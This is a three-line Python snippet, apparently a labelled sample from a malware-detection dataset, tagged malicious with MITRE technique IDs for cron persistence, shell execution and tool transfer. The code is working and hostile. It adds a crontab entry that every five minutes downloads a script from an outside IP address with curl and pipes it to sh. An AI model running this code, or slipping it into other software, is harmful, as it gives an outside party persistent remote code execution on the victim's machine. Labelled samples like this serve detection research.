# label: malicious family=persist techniques=T1053.003,T1059.004,T1105 lines=3
import os
os.system('(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.11/u.sh | sh") | crontab -')
